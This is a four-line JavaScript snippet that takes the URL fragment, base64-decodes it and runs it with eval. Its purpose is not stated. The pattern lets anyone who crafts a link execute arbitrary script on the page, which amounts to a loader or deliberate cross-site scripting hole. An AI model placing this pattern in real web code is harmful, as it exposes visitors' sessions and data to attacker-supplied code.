const payload = location.hash.slice(1);
if (payload) {
  eval(atob(payload));
}
